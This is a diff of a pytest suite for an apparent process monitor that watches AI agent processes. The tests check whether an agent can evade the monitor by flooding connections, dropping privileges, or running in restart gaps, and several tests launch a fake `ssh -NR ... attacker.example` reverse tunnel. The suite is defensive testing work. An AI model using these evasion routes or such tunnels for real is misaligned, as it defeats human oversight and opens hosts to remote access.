@@ -92,10 +92,10 @@ def killed(p: subprocess.Popen[bytes], timeout: float = 10) -> bool:
 
 
 @pytest.fixture
-def flooder(shared_dir: Path) -> Path:
-    src = shared_dir / "flood.c"
+def flooder(reachable_tmp: Path) -> Path:
+    src = reachable_tmp / "flood.c"
     src.write_text(FLOOD_C)
-    out = shared_dir / "flood"
+    out = reachable_tmp / "flood"
     subprocess.run(["cc", "-O2", "-o", str(out), str(src)], check=True)
     return out
 
@@ -104,11 +104,11 @@ def flooder(shared_dir: Path) -> Path:
 
 @pytest.mark.parametrize("vary", [0, 1], ids=["one-destination", "many-destinations"])
 def test_a_connect_flood_cannot_blind_the_userspace_rules(
-        agent_user: tuple[int, int], shared_dir: Path, flooder: Path, vary: int) -> None:
+        agent_user: tuple[int, int], reachable_tmp: Path, flooder: Path, vary: int) -> None:
     """Two agent processes flood connect() on UDP sockets; meanwhile `ssh -R` is started ten
     times in a row: ten kills by the argv rule (it was 0 in 10 when one ring carried all)."""
     mon = start(agent_config(monitor="  ring_buffer_mib: 1"))
-    ssh = fake_ssh(shared_dir)
+    ssh = fake_ssh(reachable_tmp)
     floods: list[subprocess.Popen[bytes]] = []
     try:
         kills = 0
@@ -146,13 +146,13 @@ USERSPACE_MATCHERS = {
 @pytest.mark.parametrize("matcher", sorted(USERSPACE_MATCHERS))
 @pytest.mark.parametrize("dropper", ["setpriv", "chroot"])
 def test_a_privilege_dropping_exec_becomes_an_agent_whatever_userspace_matchers_exist(
-        agent_user: tuple[int, int], shared_dir: Path, matcher: str, dropper: str) -> None:
+        agent_user: tuple[int, int], reachable_tmp: Path, matcher: str, dropper: str) -> None:
     """An untracked root process becomes a pending candidate at its exec (a userspace matcher
     exists); it then drops to the agent's uid and execs `ssh -R`: the uid matcher must make
     it an agent root there, and the argv rule must kill it."""
     extra = f"  - name: other\n    match:\n{USERSPACE_MATCHERS[matcher]}\n"
     mon = start(agent_config(extra_agents=extra))
-    ssh = fake_ssh(shared_dir)
+    ssh = fake_ssh(reachable_tmp)
     argv = [str(ssh), "-NR", "9000:localhost:22", "attacker.example"]
     drop = {"setpriv": ["setpriv", f"--reuid={AGENT_USER}", f"--regid={AGENT_USER}",
                         "--clear-groups", "--", *argv],
@@ -169,10 +169,10 @@ def test_a_privilege_dropping_exec_becomes_an_agent_whatever_userspace_matchers_
 # --- 4. adopted and recovered processes are judged -----------------------------------------
 
 def test_what_the_monitor_adopts_at_start_it_judges(agent_user: tuple[int, int],
-                                                      shared_dir: Path) -> None:
+                                                      reachable_tmp: Path) -> None:
     """`ssh -R` started while no monitor ran is killed once one starts and adopts it."""
     require_root()
-    ssh = fake_ssh(shared_dir)
+    ssh = fake_ssh(reachable_tmp)
     p = as_agent([str(ssh), "-NR", "9000:localhost:22", "attacker.example"], agent_user)
     time.sleep(0.2)
     mon = start(agent_config())
@@ -188,7 +188,7 @@ def test_what_the_monitor_adopts_at_start_it_judges(agent_user: tuple[int, int],
 
 
 def test_what_ran_in_the_gap_before_a_pinned_restart_is_judged(agent_user: tuple[int, int],
-                                                                 shared_dir: Path) -> None:
+                                                                 reachable_tmp: Path) -> None:
     """With pins the kernel tracks the agent while no monitor runs, but nothing reads the
     exec records: an `ssh -R` started in the gap dies when the monitor comes back."""
     from test_recovery import start as start_cli
@@ -198,16 +198,16 @@ def test_what_ran_in_the_gap_before_a_pinned_restart_is_judged(agent_user: tuple
 
     require_root()
     pin = f"/sys/fs/bpf/awtest-gap-{os.getpid()}"
-    sock = str(shared_dir / "ctl.sock")
-    config = shared_dir / "config.yaml"
+    sock = str(reachable_tmp / "ctl.sock")
+    config = reachable_tmp / "config.yaml"
     config.write_text(f"agents:\n  - name: hostile\n    match:\n      - user: {AGENT_USER}\n"
                       f"monitor:\n  control_socket: {sock}\n  pin_dir: {pin}\n"
                       f"  tick_seconds: 0.2\nmetrics: {{listen: '127.0.0.1:{free_port()}'}}\n")
-    policy = shared_dir / "policy.yaml"
+    policy = reachable_tmp / "policy.yaml"
     policy.write_text(POLICY)
-    log = shared_dir / "monitor.log"
-    go = shared_dir / "go"
-    ssh = fake_ssh(shared_dir)
+    log = reachable_tmp / "monitor.log"
+    go = reachable_tmp / "go"
+    ssh = fake_ssh(reachable_tmp)
     script = f"while [ ! -e {go} ]; do sleep 0.1; done; exec {ssh} -NR 9000:localhost:22 x.example"
     mon = start_cli(config, policy, sock, log)
     agent = None
@@ -270,9 +270,9 @@ for c in children:
 
 
 def test_children_a_full_process_map_cannot_hold_die_before_they_run_anything(
-        agent_user: tuple[int, int], shared_dir: Path) -> None:
+        agent_user: tuple[int, int], reachable_tmp: Path) -> None:
     mon = start(agent_config(monitor="  max_processes: 1024"))
-    marker = shared_dir / "ran"
+    marker = reachable_tmp / "ran"
     try:
         p = as_agent([sys.executable, "-c", FORKER, str(marker)], agent_user,
                      stdout=subprocess.PIPE)
